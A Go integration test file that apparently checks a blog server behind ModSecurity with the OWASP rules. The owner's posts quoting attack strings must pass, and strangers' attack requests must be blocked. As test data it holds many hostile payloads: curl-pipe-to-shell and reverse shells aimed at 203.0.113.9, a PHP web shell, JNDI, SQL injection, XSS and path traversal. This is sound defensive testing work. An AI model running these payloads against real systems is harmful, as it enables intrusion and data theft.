package test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// technical is an article about what the OWASP rules look for.
const technical = `How the shop was robbed, and how to mend it.

    $id = $_GET['id'];
    $rows = mysqli_query($db, "SELECT * FROM users WHERE id = '$id' OR 1=1; -- ");

Whoever sends ` + "`' UNION SELECT username, password FROM users -- `" + ` gets everything, and MySQL says
"You have an error in your SQL syntax". The same with <script>alert(document.cookie)</script> in a comment, or
<img src=x onerror=alert(1)>. Then:

` + "```sh" + `
curl http://203.0.113.9/x.sh | sh; cat /etc/passwd; rm -rf /tmp/x && wget -qO- http://203.0.113.9/../../etc/shadow
; bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444' ; $(nc -e /bin/sh 203.0.113.9 4444)
` + "```" + `

` + "```php" + `
<?php system($_GET['cmd']); eval(base64_decode($_POST['x'])); include('php://filter/convert.base64-encode/resource=../wp-config.php'); ?>
` + "```" + `

Also ${jndi:ldap://203.0.113.9/a}, O:8:"stdClass":0:{}, {{7*7}}, <%= system("id") %> and java.lang.Runtime.getRuntime().exec("id").`

// startFirewall starts Apache with ModSecurity and the OWASP rules as Debian has them, the
// rules in force.
func startFirewall(t testing.TB, s *site, backend string) {
	t.Helper()
	base, err := os.ReadFile("/etc/modsecurity/modsecurity.conf-recommended")
	if err != nil {
		missing(t, "libapache2-mod-security2")
	}
	if _, err := os.Stat("/usr/share/modsecurity-crs/owasp-crs.load"); err != nil {
		missing(t, "modsecurity-crs")
	}
	dir, err := os.MkdirTemp("", "hark-modsecurity-") // t.TempDir is closed to www-data
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	rules := strings.NewReplacer(
		"SecRuleEngine DetectionOnly", "SecRuleEngine On",
		"SecDataDir /tmp/", "SecDataDir "+dir, "SecTmpDir /tmp/", "SecTmpDir "+dir,
		"SecAuditLog /var/log/apache2/modsec_audit.log", "SecAuditLog "+filepath.Join(dir, "audit.log"),
		"unicode.mapping", "/etc/modsecurity/unicode.mapping",
	).Replace(string(base))
	startApache(t, s, backend, []string{"unique_id", "security2"}, rules+"\nInclude /usr/share/modsecurity-crs/owasp-crs.load\n")
}

func TestBehindModSecurityWhatIsMeantForHarkPassesAndAttacksDoNot(t *testing.T) {
	t.Parallel()
	s, backend := behind(t)
	startFirewall(t, s, backend)
	s.start()
	token := s.owner()
	target := s.publish(token, "Rain", "<p>Eleven millimetres.</p>")
	_, blog := newWatchedBlog(t, target)
	expect := func(what string, a answer, want int) {
		t.Helper()
		if a.status != want {
			t.Errorf("%s is answered %d, want %d", what, a.status, want)
		}
	}

	t.Run("pings", func(t *testing.T) {
		sender := from(t, "127.0.0.71")
		for _, source := range []string{"/mention", "/?p=12&preview=true", "/it's-here?x=" + url.QueryEscape("select * from rain")} {
			expect("a webmention of "+source, sender.post(s.url+"/webmention", url.Values{"source": {blog + source}, "target": {target}}), http.StatusCreated)
		}
		call := `<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>` + blog +
			`/?p=7&amp;x=select</string></value></param><param><value><string>` + target + `</string></value></param></params></methodCall>`
		req, err := http.NewRequest(http.MethodPost, s.url+"/pingback", strings.NewReader(call))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "text/xml")
		req.Header.Set("User-Agent", "WordPress/6.8; https://blog.example; verifying pingback from 203.0.113.9")
		a := sender.must(req, nil)
		expect("a pingback", a, http.StatusOK)
		if strings.Contains(a.body, "fault") {
			t.Errorf("the pingback is refused:\n%s", a.body)
		}
		if status := spam(t, s, "127.0.0.72", "<?xml version=\"1.0\"?><methodCall><methodName>x"); status != http.StatusBadRequest {
			t.Errorf("a false pingback is answered %d, want 400", status)
		}
		got := waitForLines(t, strings.TrimPrefix(s.setting("HARK_AUTH_LOG"), "file:"), 2)
		if line := got[len(got)-1]; line != "Pingback rejected (malformed) from 127.0.0.72" {
			t.Errorf("hark itself has not refused the false pingback; its last line is %q", line)
		}
	})

	owner := from(t, "127.0.0.73")
	t.Run("signing in", func(t *testing.T) {
		for _, password := range []string{"' OR 1=1; DROP TABLE users; --", "<script>alert(1)</script>", "; cat /etc/passwd | sh"} {
			expect("the password "+password, owner.post(s.url+"/login", url.Values{"username": {ownerName}, "password": {password}}), http.StatusUnauthorized)
		}
		owner.login(s)
		expect("the password once more", owner.post(s.url+"/desk/account/prove", url.Values{"proof": {"' OR 1=1; DROP TABLE users; --"}, "next": {"/desk/account/codes"}}), http.StatusUnauthorized)
		bytes := base64.RawURLEncoding.EncodeToString([]byte(technical))
		passkey := `{"id":"` + bytes[:43] + `","rawId":"` + bytes[:43] + `","type":"public-key","clientExtensionResults":{},"response":{"clientDataJSON":"` +
			bytes[:180] + `","authenticatorData":"` + bytes[200:250] + `","signature":"` + bytes[300:396] + `","userHandle":"` + bytes[400:422] + `"}}`
		expect("a passkey", from(t, "127.0.0.76").post(s.url+"/login", url.Values{"passkey": {passkey}}), http.StatusUnauthorized)
		expect("a ban", owner.post(s.url+"/desk/defence/bans", url.Values{"do": {"ban"}, "address": {"203.0.113.9"}, "for": {"1h"}, "why": {"sent ' OR 1=1 -- and <script>"}}), http.StatusSeeOther)
	})
	var pages []string
	t.Run("writing in the browser", func(t *testing.T) {
		article := url.Values{
			"title": {"SELECT * FROM users; <script>, /etc/passwd and you"}, "text": {technical}, "tags": {"sql injection, c++, <script>"},
			"slug": {"robbed"}, "in-reply-to": {"http://203.0.113.9/?q=<script>"},
		}
		expect("a preview", owner.post(s.url+"/desk/preview", article), http.StatusOK)
		article.Set("do", "publish")
		a := owner.post(s.url+"/desk/write", article)
		expect("the editor", a, http.StatusSeeOther)
		pages = append(pages, a.header.Get("Location"))
		article.Set("text", strings.Repeat(technical+"\n\n", 400)) // about 500 KB
		article.Set("slug", "long")
		a = owner.post(s.url+"/desk/write", article)
		expect("the editor, for a long text,", a, http.StatusSeeOther)
		settings := url.Values{"title": {"Rain & select"}, "description": {technical[:200]}, "author": {"Wren"}, "about": {technical}, "language": {"en"}}
		expect("the settings", owner.post(s.url+"/desk/settings", settings), http.StatusSeeOther)
	})
	t.Run("writing by apps", func(t *testing.T) {
		req, err := micropubRequest(s, token, "curl | sh; DROP TABLE users", "<pre>"+technical+"</pre>")
		pages = append(pages, s.published(req, err))
		req, err = entryRequest(s, token, map[string]any{"content": strings.Repeat(technical, 200)})
		pages = append(pages, s.published(req, err))
		req, err = formRequest(s.url+"/micropub", url.Values{"h": {"entry"}, "name": {"' OR 1=1 --"}, "content": {technical}, "category[]": {"sql", "<script>"}})
		if err == nil {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		pages = append(pages, s.published(req, err))
	})
	t.Run("reading", func(t *testing.T) {
		reader := from(t, "127.0.0.74")
		for _, page := range append(pages, "/", "/feed.atom", "/feed.json", "/archive") {
			if strings.HasPrefix(page, "/") {
				page = s.url + page
			}
			for _, coding := range []string{"gzip", "identity"} {
				req, err := http.NewRequest(http.MethodGet, page, nil)
				if err == nil {
					req.Header.Set("Accept-Encoding", coding)
				}
				expect(fmt.Sprintf("%s in %s", page, coding), reader.must(req, err), http.StatusOK)
			}
		}
	})
	t.Run("attacks", func(t *testing.T) {
		stranger := from(t, "127.0.0.75")
		for _, path := range []string{
			"/?q=" + url.QueryEscape("<script>alert(1)</script>"),
			"/archive?id=" + url.QueryEscape("1' UNION SELECT username,password FROM users--"),
			"/?file=../../../../etc/passwd",
			"/tag/rain?x=" + url.QueryEscape("; cat /etc/passwd"),
			"/login?next=" + url.QueryEscape("<script>alert(1)</script>"),
		} {
			expect(path, stranger.get(s.url+path), http.StatusForbidden)
		}
		expect("a name at the login", stranger.post(s.url+"/login", url.Values{"username": {"' OR 1=1 UNION SELECT password FROM users--"}, "password": {"x"}}), http.StatusForbidden)
		expect("the text of a post at another door", stranger.post(s.url+"/webmention", url.Values{"text": {technical}}), http.StatusForbidden)
		expect("the editor, without a session,", stranger.post(s.url+"/desk/write", url.Values{"text": {technical}}), http.StatusForbidden)
	})
}
